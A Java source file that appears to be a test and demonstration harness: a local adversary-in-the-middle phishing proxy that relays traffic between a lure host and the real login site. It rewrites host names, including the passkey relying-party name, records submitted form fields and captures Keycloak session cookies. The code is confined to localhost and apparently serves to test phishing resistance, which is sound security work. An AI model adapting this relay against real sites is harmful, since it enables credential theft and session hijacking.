package jp.sekisho.stack.proxy;

import io.undertow.Undertow;
import io.undertow.server.HttpServerExchange;
import io.undertow.server.handlers.BlockingHandler;
import io.undertow.util.HeaderMap;
import io.undertow.util.HeaderValues;
import io.undertow.util.Headers;
import io.undertow.util.HttpString;
import java.io.IOException;
import java.net.InetAddress;
import java.net.URI;
import java.net.URLDecoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * What a phisher runs: a site under a name of his own that relays everything between his victim and the real one, in real
 * time, and keeps what is worth keeping. It rewrites the real site's name wherever it stands, that of the passkeys' relying
 * party too. For tests and the tour; the real site is the {@link ForwardingProxy}.
 */
// JP25-11
public final class PhishingProxy implements AutoCloseable {

    /** Resolves to this machine in any browser, and is another site than {@code localhost}. */
    private static final String NAME = "sekisho-securities-login.localhost";

    private static final String REAL_NAME = "localhost";

    /** Cookies that are a session of the real site. */
    private static final Set<String> SESSION = Set.of("KEYCLOAK_IDENTITY", "KEYCLOAK_SESSION");

    private static final Set<String> HOP_BY_HOP = Set.of(
            "host",
            "connection",
            "content-length",
            "transfer-encoding",
            "upgrade",
            "http2-settings",
            "accept-encoding");

    private final HttpClient http = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .followRedirects(HttpClient.Redirect.NEVER)
            .build();
    private final URI real;
    private final String from;
    private final int port;
    private final Undertow undertow;

    /** By name of the field, as the victim typed it last. */
    private final Map<String, String> typed = new ConcurrentHashMap<>();

    private final List<String> sessions = new CopyOnWriteArrayList<>();

    private PhishingProxy(int port, URI real, String from) {
        this.port = port;
        this.real = real;
        this.from = from;
        this.undertow = Undertow.builder()
                .addHttpListener(port, "127.0.0.1", new BlockingHandler(this::relay))
                .build();
    }

    /**
     * @param port where to listen, on 127.0.0.1
     * @param real the site that is imitated
     * @param origin where the phisher's machine stands
     */
    public static PhishingProxy start(int port, URI real, Origin origin) {
        InetAddress address = ForwardingProxy.address(origin.address()).orElseThrow();
        String from =
                ForwardingProxy.COOKIE + '=' + ForwardingProxy.choice(address).getValue();
        PhishingProxy proxy = new PhishingProxy(port, real, from);
        proxy.undertow.start();
        return proxy;
    }

    /** The address that the victim is lured to, for an address of the real site. */
    public URI lure(URI page) {
        return URI.create(faked(page.toString()));
    }

    /** What the victim typed, by name of the field. */
    public Map<String, String> typed() {
        return Map.copyOf(typed);
    }

    /** Session cookies that the real site meant for the victim, as {@code name=value}; empty while the phisher has nothing. */
    public List<String> sessions() {
        return List.copyOf(sessions);
    }

    private void relay(HttpServerExchange exchange) throws IOException, InterruptedException {
        byte[] body = exchange.getInputStream().readAllBytes();
        note(exchange, body);
        String query = exchange.getQueryString();
        URI target = real.resolve(genuine(exchange.getRequestPath() + (query.isEmpty() ? "" : '?' + query)));
        HttpRequest.Builder request = HttpRequest.newBuilder(target)
                .method(
                        exchange.getRequestMethod().toString(),
                        body.length == 0
                                ? BodyPublishers.noBody()
                                : BodyPublishers.ofString(genuine(new String(body, StandardCharsets.UTF_8))));
        copy(exchange.getRequestHeaders(), request);
        answer(exchange, http.send(request.build(), BodyHandlers.ofByteArray()));
    }

    private void note(HttpServerExchange exchange, byte[] body) {
        String type = exchange.getRequestHeaders().getFirst(Headers.CONTENT_TYPE);
        if (type != null && type.startsWith("application/x-www-form-urlencoded")) {
            for (String field : new String(body, StandardCharsets.UTF_8).split("&")) {
                String[] pair = field.split("=", 2);
                if (pair.length == 2 && !pair[1].isEmpty()) {
                    typed.put(pair[0], URLDecoder.decode(pair[1], StandardCharsets.UTF_8));
                }
            }
        }
    }

    private void copy(HeaderMap headers, HttpRequest.Builder request) {
        for (HeaderValues values : headers) {
            String name = values.getHeaderName().toString();
            if (!HOP_BY_HOP.contains(name.toLowerCase(Locale.ROOT))
                    && !values.getHeaderName().equals(Headers.COOKIE)) {
                values.forEach(value -> request.header(name, genuine(value)));
            }
        }
        // The victim's browser does not reach the real site, so where he is does not count.
        String cookies = String.join("; ", headers.eachValue(Headers.COOKIE));
        request.header("Cookie", cookies.isEmpty() ? from : cookies + "; " + from);
    }

    private void answer(HttpServerExchange exchange, HttpResponse<byte[]> answer) throws IOException {
        exchange.setStatusCode(answer.statusCode());
        answer.headers().map().forEach((name, values) -> {
            if (!HOP_BY_HOP.contains(name.toLowerCase(Locale.ROOT)) && !name.startsWith(":")) {
                values.forEach(value -> {
                    if (name.equalsIgnoreCase("set-cookie")) {
                        keep(value);
                    }
                    exchange.getResponseHeaders().add(new HttpString(name), faked(value));
                });
            }
        });
        String type = answer.headers().firstValue("content-type").orElse("");
        byte[] body = type.startsWith("text/html")
                ? faked(new String(answer.body(), StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8)
                : answer.body();
        exchange.getOutputStream().write(body);
    }

    private void keep(String setCookie) {
        String cookie = setCookie.split(";", 2)[0];
        String[] pair = cookie.split("=", 2);
        if (SESSION.contains(pair[0]) && pair.length == 2 && !pair[1].isEmpty() && !setCookie.contains("Max-Age=0")) {
            sessions.add(cookie);
        }
    }

    private String genuine(String text) {
        return text.replace(NAME + ':' + port, real.getAuthority())
                .replace(NAME + "%3A" + port, real.getAuthority().replace(":", "%3A"));
    }

    private String faked(String text) {
        return text.replace(real.getAuthority(), NAME + ':' + port)
                .replace(real.getAuthority().replace(":", "%3A"), NAME + "%3A" + port)
                .replace("\"" + REAL_NAME + "\"", "\"" + NAME + "\"");
    }

    @Override
    public void close() {
        undertow.stop();
    }
}
